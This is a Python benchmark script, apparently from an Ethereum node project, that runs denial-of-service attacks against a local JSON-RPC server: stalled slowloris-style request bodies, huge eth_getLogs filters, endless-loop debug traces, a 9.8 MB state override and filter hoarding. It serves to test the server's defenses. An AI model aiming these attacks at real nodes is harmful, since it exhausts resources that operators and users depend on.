#!/usr/bin/env python3
"""The attacker mix of benches/abuse.sh (issue 60), from one client address (127.0.0.2 by
default), for DURATION seconds against http://127.0.0.1:PORT/:

- stalled bodies: up to 1,024 connections that send `Content-Length: 100` and 4 bytes of
  body, then nothing; one the server closes is opened again;
- heavy eth_getLogs: 1,000 addresses and 4 topic positions of 1,000 alternatives over the
  whole chain (geth's list limits), 2 clients in a loop;
- struct-logger debug_traceCall of an endless loop with memory capture, 2 clients in a loop;
- eth_call with a 120,000-account state override (about 9.8 MB), 2 clients in a loop;
- filter hoarding: eth_newBlockFilter in a loop, never polled.

ATTACKS=stalled,logs,structlog,overrides,filters (a comma list) runs only those. Standard
library only. Prints one line per attack: attempts and how they ended.
Usage: abuse_attack.py PORT DURATION [SOURCE_ADDRESS]
"""
import json
import os
import socket
import sys
import threading
import time

PORT = int(sys.argv[1])
DURATION = float(sys.argv[2])
SOURCE = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.2"
END = time.monotonic() + DURATION
LOCK = threading.Lock()
STATS = {}


def count(attack, outcome):
    with LOCK:
        STATS.setdefault(attack, {}).setdefault(outcome, 0)
        STATS[attack][outcome] += 1


def connect(timeout):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.bind((SOURCE, 0))
    s.connect(("127.0.0.1", PORT))
    return s


def post(body, timeout=None):
    """POSTs body; returns an outcome word: result, the JSON-RPC error code, an HTTP status, or
    how the connection failed."""
    if timeout is None:
        timeout = max(1.0, END - time.monotonic() + 5.0)
    try:
        s = connect(timeout)
        head = (
            "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        ).encode()
        s.sendall(head + body)
        chunks = []
        while True:
            b = s.recv(1 << 16)
            if not b:
                break
            chunks.append(b)
        s.close()
    except socket.timeout:
        return "timeout"
    except OSError as e:
        return type(e).__name__
    text = b"".join(chunks)
    status = text.split(b" ", 2)[1].decode() if text.count(b" ") >= 2 else "none"
    if status != "200":
        return "http " + status
    if b'"result"' in text[:4096]:
        return "result"
    try:
        code = json.loads(text.split(b"\r\n\r\n", 1)[1])["error"]["code"]
        return f"error {code}"
    except (ValueError, KeyError, IndexError, TypeError):
        return "unparsed"


def rpc(method, params):
    return json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params}).encode()


def loop(attack, body):
    while time.monotonic() < END:
        count(attack, post(body))


def stalled():
    held = []
    while time.monotonic() < END:
        while len(held) < 1024 and time.monotonic() < END:
            try:
                s = connect(5.0)
                s.sendall(
                    b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                    b"Content-Length: 100\r\n\r\n{\"js"
                )
                s.setblocking(False)
                held.append(s)
                count("stalled bodies", "opened")
            except OSError as e:
                count("stalled bodies", "open failed: " + type(e).__name__)
                time.sleep(0.05)
                break
        time.sleep(0.5)
        alive = []
        for s in held:
            try:
                if s.recv(1 << 12) == b"":
                    raise ConnectionResetError
                count("stalled bodies", "answered and closed")
                s.close()
            except BlockingIOError:
                alive.append(s)
            except OSError:
                count("stalled bodies", "closed by the server")
                s.close()
        held = alive
    with LOCK:
        STATS.setdefault("stalled bodies", {})["held at the end"] = len(held)
    for s in held:
        s.close()


def main():
    addresses = ["0x%040x" % i for i in range(1, 1001)]
    topics = ["0x%064x" % i for i in range(1, 1001)]
    logs = rpc("eth_getLogs", [{"fromBlock": "0x0", "toBlock": "latest", "address": addresses,
                                "topics": [topics, topics, topics, topics]}])
    looper = "0x0000000000000000000000000000000000001009"
    struct_logger = rpc("debug_traceCall", [
        {"to": looper, "gas": "0x2faf080"}, "latest",
        {"enableMemory": True, "stateOverrides": {looper: {"code": "0x5b600056"}}}])
    overrides = rpc("eth_call", [
        {"to": "0x0000000000000000000000000000000000000001"}, "latest",
        {"0x%040x" % i: {"balance": "0x1"} for i in range(1, 120_001)}])
    filters = rpc("eth_newBlockFilter", [])
    only = [a for a in os.environ.get("ATTACKS", "").split(",") if a]
    threads = []
    if not only or "stalled" in only:
        threads.append(threading.Thread(target=stalled))
    for key, attack, body, n in [("logs", "heavy eth_getLogs", logs, 2),
                                 ("structlog", "struct logger", struct_logger, 2),
                                 ("overrides", "large overrides", overrides, 2),
                                 ("filters", "filter hoarding", filters, 1)]:
        if not only or key in only:
            threads += [threading.Thread(target=loop, args=(attack, body)) for _ in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for attack, outcomes in sorted(STATS.items()):
        print(f"attack {attack}: " + ", ".join(f"{k} {v}" for k, v in sorted(outcomes.items())))


if __name__ == "__main__":
    main()
